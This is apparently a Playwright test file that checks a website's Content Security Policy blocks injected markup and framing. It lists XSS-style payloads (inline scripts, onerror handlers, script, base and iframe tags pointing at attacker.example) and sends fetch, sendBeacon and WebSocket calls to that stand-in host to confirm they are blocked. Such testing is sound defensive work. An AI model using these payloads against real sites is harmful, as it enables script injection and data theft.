import type { Page } from '@playwright/test';
import { expect, test } from '../test.ts';

const ATTACKER = 'https://attacker.example';

/** Injection attempts, and the directive that blocks each. */
const INJECTIONS: Record<string, string> = {
  '<script>stolen = true</script>': 'script-src-elem',
  [`<script src="${ATTACKER}/a.js"></script>`]: 'script-src-elem',
  '<img src="/robots.txt" onerror="stolen = true">': 'script-src-attr',
  '<style>main { display: none }</style>': 'style-src-elem',
  '<p style="position: fixed">x</p>': 'style-src-attr',
  [`<link rel="stylesheet" href="${ATTACKER}/a.css">`]: 'style-src-elem',
  [`<base href="${ATTACKER}/">`]: 'base-uri',
  [`<iframe src="${ATTACKER}/"></iframe>`]: 'frame-src',
  [`<embed src="${ATTACKER}/a.pdf">`]: 'object-src',
  [`<video src="${ATTACKER}/a.mp4"></video>`]: 'media-src',
};

test('the site and the admin block injections and send nothing to another origin; no other site can frame the login', async ({
  page,
  logged,
  baseURL,
}) => {
  const reached = await watchRequestsTo(page, ATTACKER);
  for (const path of ['/', '/admin/login']) {
    await test.step(path, async () => {
      await page.goto(path);
      for (const [markup, directive] of Object.entries(INJECTIONS)) {
        expect(await violatedBy(page, markup), markup).toBe(directive);
      }
      // The admin shows pictures from anywhere; visitors get those of the site itself.
      const picture = `<img src="${ATTACKER}/a.png">`;
      if (path === '/') expect(await violatedBy(page, picture)).toBe('img-src');
      expect(await page.evaluate(() => 'stolen' in globalThis)).toBe(false);
      await logged.expect([/ violates the following Content Security Policy directive/]);

      await page.evaluate(async (origin) => {
        await fetch(`${origin}/?stolen`).catch(() => undefined);
        navigator.sendBeacon(`${origin}/?stolen`);
        new WebSocket(origin.replace('https', 'wss')).close();
      }, ATTACKER);
      const blocked = () =>
        logged.lines.filter((line) => /^Connecting to '.*' violates/.test(line));
      await expect.poll(blocked).toHaveLength(3);
      await logged.expect([
        /^Connecting to .* violates the following Content Security Policy directive/,
        /^Fetch API cannot load /,
      ]);
      expect(reached).toEqual([]);
    });
  }
  await test.step('no other site can show the login in a frame', async () => {
    const attacker = 'http://127.0.0.1:7777/';
    const body = `<iframe src="${baseURL}/admin/login"></iframe>`;
    await page.route(attacker, (route) => route.fulfill({ contentType: 'text/html', body }));
    await page.goto(attacker);
    const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
    await expect.poll(() => frame?.url()).toBe('chrome-error://chromewebdata/');
  });
});

/** Injects the markup into the page; returns the directive that the browser reports as violated. */
async function violatedBy(page: Page, markup: string): Promise<string> {
  return page.evaluate(
    (html) =>
      new Promise<string>((resolve) => {
        document.addEventListener(
          'securitypolicyviolation',
          (event) => resolve(event.effectiveDirective),
          { once: true },
        );
        // Unlike innerHTML, a contextual fragment runs its scripts.
        document.body.append(document.createRange().createContextualFragment(html));
      }),
    markup,
  );
}

async function watchRequestsTo(page: Page, origin: string): Promise<string[]> {
  const reached: string[] = [];
  await page.route(`${origin}/**`, (route) => {
    reached.push(route.request().url());
    return route.abort();
  });
  return reached;
}
